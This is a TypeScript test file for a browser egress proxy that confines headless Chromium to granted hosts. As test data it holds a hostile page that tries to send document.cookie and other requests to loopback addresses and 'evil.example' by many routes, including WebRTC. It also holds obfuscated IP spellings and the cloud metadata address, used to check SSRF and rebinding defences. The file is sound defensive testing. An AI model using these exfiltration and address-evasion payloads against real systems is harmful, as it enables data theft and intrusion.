import { createSocket } from "node:dgram"
import { mkdtemp, rm } from "node:fs/promises"
import { type IncomingHttpHeaders, request } from "node:http"
import { type AddressInfo, createServer, type Socket } from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { type BrowserContext, chromium as playwright } from "playwright"
import { afterAll, beforeAll, expect, test } from "vitest"
import { type Egress, openEgress, type Route } from "../../src/browser/egress.ts"
import { laneClock, openLane } from "../../src/browser/lane.ts"
import { isPublicAddress } from "../../src/browser/public-address.ts"
import { patience, testChromium } from "../chromium.ts"
import { plainAdapter } from "./plain-adapter.ts"
import { openTestWeb, type TestWeb } from "./web.ts"

let web: TestWeb
let folder: string
const clock = () => new Date("2026-01-01T00:00:00Z")

beforeAll(async () => {
  web = await openTestWeb()
  folder = await mkdtemp(join(tmpdir(), "egress-"))
})
afterAll(async () => {
  web.close()
  await rm(folder, { recursive: true, force: true })
})

test("a page that tries every way out reaches nobody outside its grant", async () => {
  const listener = await openListener()
  web.serve(hostilePages(listener))
  const chromium = await testChromium()

  const egress = await openEgress({ clock, route: { kind: "replica", port: web.port, spki: web.spki } })
  const lane = openLane({
    profileDir: join(folder, "held"),
    chromium,
    egress,
    headless: true,
    clock: laneClock(100),
    random: () => 0,
  })
  for (const path of ["everything", "redirect", "refresh", "location", "form", "download"]) {
    await lane.read(patientAdapter, `https://www.site.example/${path}`, AbortSignal.timeout(patience))
  }
  await lane.close()
  expect(listener.reached).toEqual([])
  expect(egress.traffic().refusals.map(({ host }) => host)).toEqual(
    expect.arrayContaining(["127.0.0.1", "localhost", "[::1]", "evil.example"]),
  )
  await egress.close()

  const free = await playwright.launchPersistentContext(join(folder, "free"), {
    executablePath: chromium.executablePath,
    env: chromium.env,
    chromiumSandbox: chromium.sandbox.kind === "on",
    args: [
      `--host-resolver-rules=MAP www.site.example:443 127.0.0.1:${web.port}`,
      `--ignore-certificate-errors-spki-list=${web.spki}`,
    ],
  })
  await visit(free, "https://www.site.example/everything")
  const reached = () => new Set(listener.reached)
  await expect.poll(reached, { message: "without the proxy the same page gets out" }).toEqual(new Set(["tcp", "udp"]))
  await free.close()
  listener.close()
})

test("a host is let through only while it is granted", async () => {
  web.serve({ "www.site.example/": "here" })
  const egress = await openEgress({ clock, route: { kind: "replica", port: web.port, spki: web.spki } })
  expect(await tunnel(egress, "www.site.example:443")).toMatchObject({ status: 403 })
  const release = egress.grant(["*.site.example"])
  expect(await tunnel(egress, "www.site.example:443")).toMatchObject({ status: 200 })
  expect(await tunnel(egress, "site.example:443"), "the bare name is another").toMatchObject({ status: 403 })
  expect(await tunnel(egress, "evilsite.example:443")).toMatchObject({ status: 403 })
  expect(await tunnel(egress, "www.site.example:8443")).toMatchObject({ status: 403 })
  release()
  expect(await tunnel(egress, "www.site.example:443")).toMatchObject({ status: 403 })
  expect(egress.traffic()).toMatchObject({
    refused: 5,
    refusals: [
      { host: "www.site.example", port: 443, why: "not granted", at: "2026-01-01T00:00:00.000Z" },
      { host: "site.example", why: "not granted" },
      { host: "evilsite.example", why: "not granted" },
      { host: "www.site.example", port: 8443, why: "odd port" },
      { host: "www.site.example", why: "not granted" },
    ],
  })
  await egress.close()
})

test("the end of a grant ends its open connections, and no others", async () => {
  const egress = await openEgress({ clock, route: { kind: "replica", port: web.port, spki: web.spki } })
  const release = egress.grant(["one.example"])
  egress.grant(["two.example"])
  const one = await tunnel(egress, "one.example:443")
  const two = await tunnel(egress, "two.example:443")
  const ended = new Promise((resolve) => one.socket?.once("close", resolve))
  release()
  await ended
  expect(two.socket?.destroyed).toBe(false)
  await egress.close()
})

test("another program of this machine cannot use the proxy", async () => {
  const egress = await openEgress({ clock, route: { kind: "replica", port: web.port, spki: web.spki } })
  egress.grant(["www.site.example"])
  for (const password of ["", "guess", `${egress.launch.proxy.password}x`]) {
    expect(await tunnel(egress, "www.site.example:443", password)).toMatchObject({ status: 407 })
  }
  await egress.close()
})

test.each([
  ["a loopback address", ["127.0.0.1"]],
  ["a private address beside a public one", ["1.1.1.1", "10.0.0.8"]],
  ["a mapped address", ["::ffff:127.0.0.1"]],
  ["the metadata service", ["169.254.169.254"]],
  ["a unique local address", ["fd00::1"]],
])("a granted name that resolves to %s is refused", async (_what, addresses) => {
  const egress = await openEgress({ clock, route: live(async () => addresses) })
  egress.grant(["rebind.example"])
  expect(await tunnel(egress, "rebind.example:443")).toMatchObject({ status: 403 })
  expect(egress.traffic().refusals).toMatchObject([{ host: "rebind.example", why: "private address" }])
  await egress.close()
})

test("a name is resolved once for a connection, so it cannot change in between", async () => {
  const asked: string[] = []
  const egress = await openEgress({
    clock,
    route: live(async (host) => {
      asked.push(host)
      throw new Error("no such name")
    }),
  })
  egress.grant(["gone.example"])
  expect(await tunnel(egress, "gone.example:443")).toMatchObject({ status: 502 })
  expect(asked).toEqual(["gone.example"])
  expect(egress.traffic().refusals).toMatchObject([{ host: "gone.example", why: "unresolved" }])
  await egress.close()
})

test("an address literal is refused in every spelling, even when it is granted", async () => {
  const egress = await openEgress({ clock, route: live(async (host) => [host]) })
  egress.grant(["1.1.1.1", "127.0.0.1", "[::1]"])
  for (const literal of ["1.1.1.1:443", "127.0.0.1:80", "2130706433:80", "0x7f.1:80", "0177.0.0.1:80", "[::1]:443"]) {
    expect(await tunnel(egress, literal), literal).toMatchObject({ status: 403 })
  }
  expect(new Set(egress.traffic().refusals.map(({ why }) => why))).toEqual(new Set(["address literal"]))
  await egress.close()
})

test("bytes are counted in both directions", async () => {
  const egress = await openEgress({ clock, route: { kind: "replica", port: web.port, spki: web.spki } })
  egress.grant(["www.site.example"])
  const { socket } = await tunnel(egress, "www.site.example:443")
  const ended = new Promise((resolve) => socket?.once("close", resolve))
  socket?.resume().write("not a TLS greeting")
  await ended
  expect(egress.traffic()).toMatchObject({ sent: 18, refused: 0 })
  await egress.close()
})

test("public addresses are those of the open internet alone", () => {
  const isPublic = ["1.1.1.1", "172.32.0.1", "2606:4700::1111"]
  const isNot = [
    "0.0.0.0",
    "100.64.1.1",
    "172.31.255.255",
    "192.0.2.1",
    "224.0.0.1",
    "255.255.255.255",
    "::1",
    "fe80::1",
  ]
  const isNotEither = ["2001:db8::1", "2002:7f00:1::", "64:ff9b::7f00:1", "ff02::1", "name.example", ""]
  expect(isPublic.filter(isPublicAddress)).toEqual(isPublic)
  expect([...isNot, ...isNotEither].filter(isPublicAddress)).toEqual([])
})

/** Stays on a page for a while, so that it has time to misbehave. */
const patientAdapter = {
  ...plainAdapter(["www.site.example"]),
  ready: { any: [".never"], scroller: null, lazy: [], screens: 0, waitMs: 1_500, lazyWaitMs: 0 },
}

function live(resolve: (host: string) => Promise<string[]>): Route {
  return { kind: "live", resolve }
}

async function visit(context: BrowserContext, url: string): Promise<void> {
  const page = await context.newPage()
  await page.goto(url)
  await page.waitForTimeout(1_500)
}

/** Counts whoever comes to one port, over TCP or UDP. */
async function openListener() {
  const reached: ("tcp" | "udp")[] = []
  const tcp = createServer((socket) => {
    reached.push("tcp")
    socket.destroy()
  })
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve))
  const { port } = addressOf(tcp.address())
  const udp = createSocket("udp4", () => reached.push("udp"))
  await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", resolve))
  return {
    port,
    reached,
    close: () => {
      tcp.close()
      udp.close()
    },
  }
}

function addressOf(address: AddressInfo | string | null): AddressInfo {
  if (address === null || typeof address === "string") throw new TypeError("The listener has no port.")
  return address
}

function hostilePages({ port }: { port: number }): Parameters<TestWeb["serve"]>[0] {
  const out = `http://127.0.0.1:${port}`
  const spellings = [
    out,
    `http://localhost:${port}`,
    `http://2130706433:${port}`,
    `http://0x7f.1:${port}`,
    `http://[::1]:${port}`,
    `http://[::ffff:127.0.0.1]:${port}`,
    `http://www.site.example@127.0.0.1:${port}`,
    `https://evil.example:${port}`,
    "https://evil.example",
    `https://www.site.example:${port}`,
  ]
  const worker = `fetch("${out}/worker", { mode: "no-cors" }); new WebSocket("ws://127.0.0.1:${port}/worker")`
  return {
    "www.site.example/worker.js": (_request, response) => {
      response.writeHead(200, { "content-type": "text/javascript" }).end(worker)
    },
    "www.site.example/everything": `
      <link rel="preconnect" href="${out}"><link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="${out}/prefetch">
      <style>@import "${out}/style"; body { background: url("${out}/background") }</style>
      ${spellings.map((to) => `<img src="${to}/img"><iframe src="${to}/frame"></iframe><object data="${to}/object"></object>`).join("")}
      <video src="${out}/video"></video><script src="${out}/script"></script>
      <script>
        const quiet = async (attempt) => { try { await attempt() } catch {} }
        for (const to of ${JSON.stringify(spellings)}) {
          quiet(() => fetch(to + "/fetch", { mode: "no-cors", method: "POST", body: document.cookie }))
          quiet(() => navigator.sendBeacon(to + "/beacon", "x"))
          quiet(() => new EventSource(to + "/events"))
          quiet(() => new WebSocket(to.replace("http", "ws") + "/socket"))
          quiet(() => window.open(to + "/popup"))
        }
        quiet(() => new Worker("/worker.js"))
        quiet(() => navigator.serviceWorker.register("/worker.js"))
        quiet(() => new WebTransport("https://127.0.0.1:${port}/transport"))
        quiet(async () => {
          const peer = new RTCPeerConnection({ iceServers: [
            { urls: "stun:127.0.0.1:${port}" },
            { urls: "turn:127.0.0.1:${port}?transport=udp", username: "u", credential: "c" },
            { urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "c" },
          ] })
          peer.createDataChannel("out")
          await peer.setLocalDescription(await peer.createOffer())
        })
      </script>`,
    "www.site.example/redirect": (_request, response) => {
      response.writeHead(302, { location: `${out}/redirected` }).end()
    },
    "www.site.example/refresh": `<meta http-equiv="refresh" content="0; url=${out}/refreshed">`,
    "www.site.example/location": `<script>location = "${out}/location"</script>`,
    "www.site.example/form": `<form action="${out}/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
    "www.site.example/download": `<a download href="${out}/download">x</a><script>document.links[0].click()</script>`,
  }
}

type Tunnel = { status: number; headers: IncomingHttpHeaders; socket: Socket | null }

/** Asks the proxy for a tunnel as a browser would. */
function tunnel(egress: Egress, to: string, password = egress.launch.proxy.password): Promise<Tunnel> {
  const { port } = new URL(egress.launch.proxy.server)
  const basic = Buffer.from(`${egress.launch.proxy.username}:${password}`).toString("base64")
  return new Promise((resolve, reject) => {
    request({
      host: "127.0.0.1",
      port,
      method: "CONNECT",
      path: to,
      headers: { "proxy-authorization": `Basic ${basic}` },
    })
      .once("connect", (answer, socket) => {
        socket.on("error", () => {})
        resolve({ status: answer.statusCode ?? 0, headers: answer.headers, socket })
      })
      .once("error", reject)
      .end()
  })
}
